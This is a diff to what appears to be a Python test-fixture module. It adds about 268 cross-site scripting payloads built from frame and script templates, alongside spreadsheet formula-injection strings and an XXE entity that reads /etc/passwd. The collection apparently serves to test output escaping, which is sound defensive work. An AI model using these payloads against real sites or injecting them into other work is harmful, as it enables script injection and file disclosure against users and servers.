@@ -20,3 +20,26 @@ FORMULAS = (
     "'=1+1", "%0A=1+1", "+86 539 000", "-合计", "=SUM(1,2)&\"\"", "|cmd", ";=1+1", "=＂1＂",
 )  # fmt: skip
 """Texts that a spreadsheet would run, some of them behind what it throws away when it reads a cell."""
+
+FRAMES = (
+    "{}", "\">{}", "'>{}", "</td>{}", "</title>{}", "</script>{}", "--><!-- -->{}", "]]>{}", "</textarea>{}", "</style>{}",
+    "</svg>{}", "\u003c/div\u003e{}",
+)  # fmt: skip
+SCRIPTS = (
+    "<script>xss(1)</script>", "<ScRiPt src=//xss>", "<img src=x onerror=xss(1)>", "<svg/onload=xss(1)>", "<svg><script>xss(1)</script>",
+    "<body onload=xss(1)>", "<iframe srcdoc='<script>parent.xss(1)</script>'>", "<a href=javascript:xss(1)>a</a>",
+    "<details open ontoggle=xss(1)>", "<input autofocus onfocus=xss(1)>", "<math><mi xlink:href=javascript:xss(1)>",
+    "<object data=javascript:xss(1)>", "<base href=//xss/>", "<meta http-equiv=refresh content=0;//xss>",
+    "<form action=//xss><button>", "<video><source onerror=xss(1)>", "<style>@import '//xss'</style>",
+    "<link rel=stylesheet href=//xss>", "<p style=background:url(//xss)>", "<marquee onstart=xss(1)>",
+)  # fmt: skip
+OTHERS = (
+    "\" onmouseover=xss(1) a=\"", "' onfocus=xss(1) autofocus a='", "javascript:xss(1)", "[a](javascript:xss(1))", "![a](//xss/a.png)",
+    "<javascript:xss(1)>", "[a]: javascript:xss(1)", "${xss(1)}", "{{xss(1)}}", "{%xss(1)%}", "`<img src=x onerror=xss(1)>`", "&lt;script&gt;xss(1)",
+    "&#60;img src=x onerror=xss(1)&#62;", "\u2028xss(1)//", "\\u003cscript\\u003exss(1)", "%3Cscript%3Exss(1)%3C/script%3E", "<scr<script>ipt>xss(1)",
+    "<img src=`x`onerror=xss(1)>", "<img\tsrc=x\tonerror=xss(1)>", "<<script>xss(1)//<</script>", ":red[<img src=x onerror=xss(1)>]",
+    "$\\href{javascript:xss(1)}{a}$", ":material/<svg onload=xss(1)>:", "</w:t><w:br/>xss", "<?xml version='1.0'?><x>xss",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;xss", "＜script＞xss(1)＜/script＞", "\ufeff<script>xss(1)</script>",
+)  # fmt: skip
+XSS = tuple(frame.format(script) for frame in FRAMES for script in SCRIPTS) + OTHERS
+"""268 ways to have a script run, or something fetched, where the words of people are shown; each calls xss or names it."""
